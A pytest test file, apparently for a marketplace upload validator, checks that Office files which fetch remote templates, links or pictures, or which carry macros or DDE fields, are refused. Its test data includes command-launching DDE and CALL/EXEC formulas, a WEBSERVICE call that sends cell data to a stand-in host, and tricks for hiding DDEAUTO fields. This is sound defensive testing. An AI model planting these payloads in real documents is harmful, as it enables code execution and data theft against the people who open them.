"""What Word and Excel files may fetch: nothing, wherever and however it is said."""

from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from marketplace.errors import Refused
from tests.files import office_things as o
from tests.files.office_things import (
    BRANCH,
    DAMAGED,
    DDE,
    FETCHES,
    INSIDE,
    LEADS,
    MACROS,
    cells,
    taken,
)

REMOTE = {
    "web": "https://host.example/x.dotm",
    "share": "\\\\host.example\\share\\x.dotm",
    "share with slashes": "//host.example/share/x.dotm",
    "path": "file:///C:/x.dotm",
    "path in a network": "file://host.example/x.dotm",
    "relative": "../../x.dotm",
    "script": "mhtml:https://host.example!x-usc:https://host.example",
}
OUTSIDE = (
    *("attachedTemplate", "image", "oleObject", "frame", "subDocument", "video", "audio"),
    *("externalLinkPath", "mailMergeSource", "aFChunk", "transform", "newfangled"),
)
RELATIONS = {
    **{
        f"{kind}, {place}": (o.document("", o.outside(kind, target)), FETCHES)
        for kind in OUTSIDE
        for place, target in REMOTE.items()
    },
    **{
        f"{kind} of strict files": (
            o.document("", o.outside(kind, REMOTE["web"], of=o.STRICT)),
            FETCHES,
        )
        for kind in OUTSIDE
    },
    **{
        f"link to a {place}": (o.document("", o.outside("hyperlink", target)), LEADS)
        for place, target in REMOTE.items()
        if place != "web"
    },
    **{
        f"{kind} inside": (o.document("", o.relation(kind, "x.xml")), why)
        for kind, why in {
            "oleObject": INSIDE,
            "package": INSIDE,
            "aFChunk": INSIDE,
            "subDocument": INSIDE,
            "control": MACROS,
            "vbaProject": MACROS,
            "xlMacrosheet": MACROS,
            "attachedTemplate": FETCHES,
            "connections": FETCHES,
            "queryTable": FETCHES,
            "externalLink": FETCHES,
            "webextension": FETCHES,
            "ui/extensibility": MACROS,
        }.items()
    },
    "spaces around a kind": (o.document("", o.relation("vbaProject ", "x.xml")), MACROS),
    "outside without saying so": (o.document("", o.relation("image", REMOTE["web"])), FETCHES),
    "share without saying so": (o.document("", o.relation("image", REMOTE["share"])), FETCHES),
    "called inside": (
        o.document("", o.relation("attachedTemplate", REMOTE["web"], "Internal")),
        FETCHES,
    ),
    "outside in capitals": (o.document("", o.relation("image", "x.png", " EXTERNAL")), FETCHES),
    "another kind under a prefix": (
        o.document(
            "", o.outside("image", REMOTE["web"], more=' q:Type="x/hyperlink" xmlns:q="urn:q"')
        ),
        FETCHES,
    ),
    "another mode under a prefix": (
        o.document(
            "", o.outside("image", "x.png", more=' xmlns:q="urn:q" q:TargetMode="Internal"')
        ),
        FETCHES,
    ),
    "relations in an odd place": (
        o.document(more={"word/theme/_rels/x.rels": o.relations(o.outside("image", "//h/x"))}),
        FETCHES,
    ),
    "relations of the whole": (
        o.document(more={"_rels/.rels": o.relations(o.outside("oleObject", REMOTE["web"]))}),
        FETCHES,
    ),
    "relations in wide letters": (
        o.document(
            more={
                "word/_rels/settings.xml.rels": (
                    '<?xml version="1.0" encoding="UTF-16"?>'
                    + o.relations(o.outside("attachedTemplate", REMOTE["web"]))
                ).encode("utf-16")
            }
        ),
        FETCHES,
    ),
}


@pytest.mark.parametrize("name", RELATIONS)
def test_what_lies_elsewhere_is_refused(name: str) -> None:
    content, why = RELATIONS[name]
    with pytest.raises(Refused, match=why):
        taken(content)


FIELDS = {
    "in one piece": o.field(o.says(f" {DDE} ")),
    "in pieces": o.field(*(o.says(letter) for letter in DDE)),
    "in small letters": o.field(o.says("ddeauto x")),
    "simple": o.paragraph(f'<w:fldSimple w:instr=" {DDE} "/>'),
    "simple, said twice": o.paragraph(f'<w:fldSimple w:instr="{DDE}" q:instr="PAGE"/>'),
    "simple, said twice the other way": o.paragraph(
        f'<w:fldSimple q:instr="PAGE" w:instr="{DDE}"/>'
    ),
    "without a beginning": o.paragraph(o.says("DDE") + o.says("AUTO x")),
    "behind another": o.field(o.says("PAGE")) + o.field(o.says(DDE)),
    "in another": o.field(o.says('IF 1 = 1 "'), o.field(o.says(DDE)), o.says('"')),
    "behind one inside": o.field(o.field(o.says('QUOTE ""')), o.says(DDE)),
    "its name worked out": o.field(o.field(o.says("QUOTE 68 68 69"))),
    "letters as numbers": o.field(o.says("&#68;DE&#x41;UTO x")),
    "behind deleted words": o.field(
        f"<w:del>{o.run('<w:delInstrText>PAGE </w:delInstrText>')}</w:del>", o.says(DDE)
    ),
    "behind words in a deletion": o.field(f"<w:del>{o.says('PAGE ')}</w:del>", o.says(DDE)),
    "behind words of a branch": o.field(BRANCH.format(o.says("PAGE ")), o.says(DDE)),
    "behind words that are ignored": o.field(f"<q:r>{o.says('PAGE ')}</q:r>", o.says(DDE)),
    "with an element in its words": o.field(o.says(f"{DDE}<q:instrText/>")),
    "with a prefix that changes": o.field(
        '<w:x xmlns:w="urn:example:ignored">' + o.says("PAGE ") + "</w:x>", o.says(DDE)
    ),
    "ended in a branch": o.paragraph(
        o.mark("begin")
        + BRANCH.format(o.mark("end"))
        + o.says("DDE")
        + o.says("AUTO")
        + o.mark("end")
    ),
    "ended in a deletion": o.paragraph(
        o.mark("begin") + f"<w:del>{o.mark('end')}</w:del>" + o.says("D") + o.says("DE x")
    ),
    "text of another file": o.field(o.says('INCLUDETEXT "x.docx"')),
    "data of another file": o.field(o.says("DATABASE \\d x")),
    "linked": o.field(o.says("LINK Excel.Sheet x")),
    "picture of the web": o.field(o.says('INCLUDEPICTURE "https://host.example/x.png" \\d')),
    "picture of a share": o.field(o.says('INCLUDEPICTURE "\\\\\\\\host\\\\x.png"')),
    "picture of a share with slashes": o.field(o.says("INCLUDEPICTURE //host/x.png")),
    "old picture": o.field(o.says('IMPORT "x.png"')),
    "not over": o.paragraph(o.mark("begin") + o.says(DDE)),
}


@pytest.mark.parametrize("name", FIELDS)
def test_fields_that_bring_something_in_are_refused(name: str) -> None:
    with pytest.raises(Refused, match=FETCHES):
        taken(o.document(FIELDS[name]))


@pytest.mark.parametrize("place", ["header1", "footnotes", "comments", "glossary/document"])
def test_in_every_part(place: str) -> None:
    with pytest.raises(Refused, match=FETCHES):
        taken(o.document(more={f"word/{place}.xml": o.body(FIELDS["in pieces"])}))


ENCODINGS = ("utf-16", "utf-16-le", "utf-16-be", "utf-7", "cp037", "utf-32", "shift_jis")


@pytest.mark.parametrize("encoding", ENCODINGS)
@pytest.mark.parametrize("name", ["word/header1.xml", "word/header1", "word/media/a.png"])
def test_letters_of_another_kind_hide_nothing(encoding: str, name: str) -> None:
    content = f'<?xml version="1.0" encoding="{encoding}"?>{o.body(FIELDS["in one piece"])}'
    if encoding in ("cp037", "utf-7") and not name.endswith("xml"):
        return  # no program reads what is no XML part as one in such letters
    with pytest.raises(Refused, match=f"{FETCHES}|{DAMAGED}"):
        taken(o.document(more={name: content.encode(encoding)}))


SHEETS = {
    "DDE": cells("cmd|'/c calc'!A0"),
    "DDE without quotes": cells("cmd|calc!A0"),
    "DDE behind words": cells("\"|\"&amp;cmd|'/c calc'!A0"),
    "DDE with an element in it": o.sheet("<f>cmd|'/c calc'!A0<q:f/></f>"),
    "web": cells('_xlfn.WEBSERVICE("https://host.example/"&amp;A1)'),
    "picture": cells('_xlfn.IMAGE("https://host.example/"&amp;A1)'),
    "data that goes on": cells('RTD("x.y",,"z")'),
    "library": cells('CALL("kernel32","WinExec","JCJ","x",0)'),
    "old macro": cells('EXEC("calc.exe")'),
    "name": o.sheet(
        around="<definedNames><definedName name='A'>cmd|'x'!A</definedName></definedNames>"
    ),
    "in a table": o.sheet(
        more={
            "xl/tables/table1.xml": "<t><calculatedColumnFormula>cmd|'x'!A"
            "</calculatedColumnFormula></t>"
        }
    ),
    "connections": o.sheet(more={"xl/connections.xml": "<connections/>"}),
    "other workbooks": o.sheet(more={"xl/externalLinks/externalLink1.xml": "<x/>"}),
    "query": o.sheet(more={"xl/queryTables/queryTable1.xml": "<x/>"}),
    "query of the other kind": o.sheet(more={"customXml/item1.xml": "<DataMashup>x</DataMashup>"}),
    "add-in": o.sheet(more={"xl/webextensions/taskpanes.xml": "<x/>"}),
    "linked data": o.sheet("<ddeLink ddeService='cmd' ddeTopic='/c calc'/>"),
}


@pytest.mark.parametrize("name", SHEETS)
def test_sheets_that_fetch_are_refused(name: str) -> None:
    with pytest.raises(Refused, match=FETCHES):
        taken(SHEETS[name])


@given(st.lists(st.sampled_from(["DDE", "AUTO", " ", "b", "s", "e", "<del>", "<alt>"]), max_size=9))
def test_whatever_is_read_of_a_field_is_looked_at(steps: list[str]) -> None:
    """However marks and branches are mixed in, no program reads DDEAUTO of what is taken."""
    made: list[Any] = []
    for step in steps:
        made.append({"b": o.mark("begin"), "s": o.mark("separate"), "e": o.mark("end")}.get(step))
        if step == "<del>":
            made[-1] = f"<w:del>{o.mark('end')}{o.says('x')}</w:del>"
        elif step == "<alt>":
            made[-1] = BRANCH.format(o.says("x") + o.mark("end"))
        elif made[-1] is None:
            made[-1] = o.says(step)
    with pytest.raises(Refused, match=FETCHES):
        taken(o.document(o.mark("begin") + "".join(made) + o.mark("begin") + o.says(DDE)))
